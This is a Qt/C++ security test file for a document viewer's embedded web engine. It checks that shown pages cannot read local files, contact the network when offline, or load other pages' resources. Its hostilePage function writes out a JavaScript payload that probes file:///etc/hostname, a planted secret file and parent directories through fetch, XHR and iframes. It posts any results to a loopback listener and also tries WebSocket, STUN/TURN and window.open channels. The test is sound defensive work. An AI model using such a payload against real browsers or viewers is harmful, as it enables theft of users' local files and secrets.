// SPDX-License-Identifier: GPL-3.0-or-later
#include "BinderFixture.h"
#include "TestSupport.h"
#include "documents/PageKind.h"
#include "window/BrowserView.h"
#include "window/PageDisplay.h"
#include "window/ViewerPane.h"

#include <QHostAddress>
#include <QNetworkDatagram>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTest>
#include <QUdpSocket>
#include <QWebEnginePage>
#include <QWebEngineView>

using namespace quillery;
using namespace quillery::test;

namespace {

constexpr char Secret[] = "secret-7f3a9c";

// Everything that reaches this machine's loopback ports while a page runs: the TCP
// listener stands in for any web server, WebSocket or TURN relay, the UDP socket for a
// STUN server.
struct Listener
{
    Listener()
    {
        QVERIFY(tcp.listen(QHostAddress::LocalHost));
        QVERIFY(udp.bind(QHostAddress::LocalHost));
        QObject::connect(&tcp, &QTcpServer::newConnection, [this] {
            while (QTcpSocket *socket = tcp.nextPendingConnection()) {
                ++connections;
                QObject::connect(socket, &QTcpSocket::readyRead,
                                 [this, socket] { received += socket->readAll(); });
            }
        });
        QObject::connect(&udp, &QUdpSocket::readyRead, [this] {
            while (udp.hasPendingDatagrams()) {
                ++datagrams;
                udp.receiveDatagram();
            }
        });
    }

    QTcpServer tcp;
    QUdpSocket udp;
    int connections = 0;
    int datagrams = 0;
    QByteArray received;
};

// A page that tries every way we know of to read local files and its own folders, and
// reports whatever it gets; it always reports that it ran.
QByteArray hostilePage(const Listener &listener, const QString &tempPath)
{
    const QByteArray tcp = QByteArray::number(listener.tcp.serverPort());
    const QByteArray udp = QByteArray::number(listener.udp.localPort());
    return "<html><body><script>\n"
           "const to = 'http://127.0.0.1:" +
           tcp +
           "/';\n"
           "function send(tag, data) {\n"
           "  fetch(to + tag, {method: 'POST', mode: 'no-cors', body: String(data)})"
           ".catch(() => {});\n"
           "}\n"
           "async function tryFetch(tag, url) {\n"
           "  try { const r = await fetch(url); send(tag, await r.text()); } catch (e) {}\n"
           "}\n"
           "function tryXhr(tag, url) {\n"
           "  try { const x = new XMLHttpRequest(); x.open('GET', url, false); x.send();\n"
           "        if (x.responseText) send(tag, x.responseText); } catch (e) {}\n"
           "}\n"
           "function tryFrame(tag, url) {\n"
           "  const f = document.createElement('iframe'); f.src = url;\n"
           "  f.onload = () => { try { send(tag, f.contentDocument.body.innerText); }"
           " catch (e) {} };\n"
           "  document.body.appendChild(f);\n"
           "}\n"
           "for (const [tag, url] of [['hostname', 'file:///etc/hostname'],\n"
           "    ['secret', 'file://" +
           tempPath.toUtf8() +
           "/secret.txt'],\n"
           "    ['temp', 'file://" +
           tempPath.toUtf8() +
           "/'], ['own', './'], ['parent', '../'], ['root', '/']]) {\n"
           "  tryFetch('fetch-' + tag, url); tryXhr('xhr-' + tag, url);"
           " tryFrame('frame-' + tag, url);\n"
           "}\n"
           "try { const ws = new WebSocket('ws://127.0.0.1:" +
           tcp +
           "/ws'); } catch (e) {}\n"
           "try {\n"
           "  const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:" +
           udp +
           "'},\n"
           "    {urls: 'turn:127.0.0.1:" +
           tcp +
           "?transport=tcp', username: 'u', credential: 'c'}]});\n"
           "  pc.createDataChannel('x');\n"
           "  pc.createOffer().then(o => pc.setLocalDescription(o));\n"
           "} catch (e) {}\n"
           "try { window.open('http://127.0.0.1:" +
           tcp +
           "/window'); } catch (e) {}\n"
           "send('alive', 1);\n"
           "</script></body></html>";
}

// The web engine's own page behind the viewer's browser, to run script in it.
QWebEnginePage *enginePage(ViewerPane &pane)
{
    BrowserView *browser = pane.txtHTML();
    auto *view = browser ? qobject_cast<QWebEngineView *>(browser->widget()) : nullptr;
    return view ? view->page() : nullptr;
}

struct Viewer
{
    explicit Viewer(BinderFixture &f) : workspace(*f.workspace)
    {
        writeFile(f.temp->filePath("secret.txt"), Secret);
        pane.resize(640, 480);
        pane.show();
    }

    bool show(Binder &binder)
    {
        pane.showPage(preparePageDisplay(workspace, binder), binder);
        QWebEnginePage *page = enginePage(pane);
        if (!page)
            return false;
        QSignalSpy loaded(page, &QWebEnginePage::loadFinished);
        return loaded.wait(20000) && loaded.last().at(0).toBool();
    }

    QVariant evaluate(const QString &script)
    {
        QVariant result;
        bool done = false;
        enginePage(pane)->runJavaScript(script, [&](const QVariant &value) {
            result = value;
            done = true;
        });
        if (!QTest::qWaitFor([&] { return done; }, 10000))
            return QVariant();
        return result;
    }

    Workspace &workspace;
    ViewerPane pane;
};

} // namespace

class tst_viewersafety : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void hostilePageReachesNoLocalFile();
    void offlinePageSendsNothingAtAll();
    void filePageNamedLikeWebContentIsNeverRun();
    void pagesSeeOnlyTheirOwnResources();
};

void tst_viewersafety::hostilePageReachesNoLocalFile()
{
    BinderFixture f;
    Listener listener;
    auto binder =
        f.open(f.makeBinder("evil.qly", {{"evil.html", hostilePage(listener, f.temp->path())}}));
    binder->setCurIndex(1);
    Viewer viewer(f);
    QVERIFY(viewer.show(*binder));
    // The channel works, so silence below means nothing was found, not nothing sent.
    QTRY_VERIFY_WITH_TIMEOUT(listener.received.contains("POST /alive"), 20000);
    QTest::qWait(1500);
    for (const QByteArray tag : {"fetch-", "xhr-", "frame-", "/window"})
        QVERIFY2(!listener.received.contains(tag), listener.received.constData());
    QVERIFY(!listener.received.contains(Secret));
}

void tst_viewersafety::offlinePageSendsNothingAtAll()
{
    BinderFixture f;
    Listener listener;
    auto binder =
        f.open(f.makeBinder("evil.qly", {{"evil.html", hostilePage(listener, f.temp->path())}}));
    binder->setCurIndex(1);
    Viewer viewer(f);
    viewer.pane.setOffline(true);
    QVERIFY(viewer.show(*binder));
    QTest::qWait(3000);
    QCOMPARE(listener.connections, 0);
    QCOMPARE(listener.datagrams, 0);
}

void tst_viewersafety::filePageNamedLikeWebContentIsNeverRun()
{
    BinderFixture f;
    Listener listener;
    auto binder =
        f.open(f.makeBinder("evil.qly", {{"x.html", hostilePage(listener, f.temp->path())}}));
    PageRow row = binder->pages.at(0);
    row.key.kind = kindString(PageKind::FILE);
    row.name = QStringLiteral("x.html");
    binder->pages.replace(0, row);
    binder->setCurIndex(1);
    Viewer viewer(f);
    QVERIFY(viewer.show(*binder));
    QString text;
    enginePage(viewer.pane)->toPlainText([&text](const QString &t) { text = t; });
    QTRY_VERIFY(text.contains("Use Edit Page"));
    QVERIFY(text.contains("x.html"));
    QTest::qWait(1500);
    QCOMPARE(listener.connections, 0);
}

void tst_viewersafety::pagesSeeOnlyTheirOwnResources()
{
    const QByteArray gif("GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01"
                         "\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02"
                         "D\x01\x00;",
                         43);
    BinderFixture f;
    auto binder = f.open(f.makeBinder(
        "trip.qly", {{"Trip.html", "<img id=own src=\"Trip.gif\"><img id=other src=Other.gif>"},
                     {"Trip.gif", gif},
                     {"Trip photo.JPG", "j"},
                     {"Other.gif", gif},
                     {"style.css", "body{}"},
                     {"Trip notes.txt", "t"},
                     {"Trip.svg", "<svg/>"}}));
    binder->setCurIndex(1);
    QCOMPARE(binder->page(1).name, QString("Trip"));
    const PageDisplay display = preparePageDisplay(*f.workspace, *binder);
    const PageContent &content = display.content;
    QVERIFY(content.resource("Trip.gif") && content.resource("trip photo.jpg"));
    QVERIFY(content.resource("style.css"));
    // Not this page's pictures, not pictures at all, or able to run script.
    QVERIFY(!content.resource("Other.gif"));
    QVERIFY(!content.resource("Trip notes.txt") && !content.resource("Trip notes"));
    QVERIFY(!content.resource("Trip.svg"));
    // Nothing of the binder is written into the temporary folder for the browser.
    QVERIFY(!QFile::exists(f.temp->filePath("Trip.gif")));
    QVERIFY(!QFile::exists(f.temp->filePath("style.css")));

    Viewer viewer(f);
    QVERIFY(viewer.show(*binder));
    QTRY_COMPARE(viewer.evaluate("document.getElementById('own').naturalWidth").toInt(), 1);
    QCOMPARE(viewer.evaluate("document.getElementById('other').naturalWidth").toInt(), 0);
}

QTEST_MAIN(tst_viewersafety)
#include "tst_viewersafety.moc"
